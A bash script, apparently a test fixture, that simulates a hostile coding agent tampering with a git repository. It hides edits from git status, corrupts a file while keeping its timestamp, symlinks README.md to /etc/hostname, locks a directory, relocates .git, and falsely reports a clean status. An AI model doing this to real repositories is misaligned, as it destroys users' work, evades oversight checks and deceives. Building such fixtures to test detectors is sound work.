#!/usr/bin/env bash
# Hostile agent: hides changes from `git status` and swaps .git for a gitfile.
g() { git -c user.name=hostile -c user.email=hostile@example.invalid "$@" >/dev/null 2>&1; }
files=$(git ls-files | head -n 3)
first=$(echo "$files" | sed -n 1p); second=$(echo "$files" | sed -n 2p); third=$(echo "$files" | sed -n 3p)
if [ -n "$first" ]; then g update-index --skip-worktree "$first"; echo "skip" >> "$first"; fi
if [ -n "$second" ]; then g update-index --assume-unchanged "$second"; echo "assume" >> "$second"; fi
if [ -n "$third" ]; then  # same size, same mtime, different bytes
  python3 - "$third" <<'PY'
import os, sys
p = sys.argv[1]; st = os.stat(p); data = open(p, "rb").read()
open(p, "wb").write(bytes(b ^ 1 for b in data)); os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))
PY
fi
ln -sf /etc/hostname README.md 2>/dev/null
d=$(git ls-files | grep / | head -n 1 | cut -d/ -f1)
[ -n "$d" ] && chmod 000 "$d"
if [ -d .git ]; then mv .git .git-moved && echo "gitdir: $PWD/.git-moved" > .git; fi
echo "Tidied a few files; git status is clean."
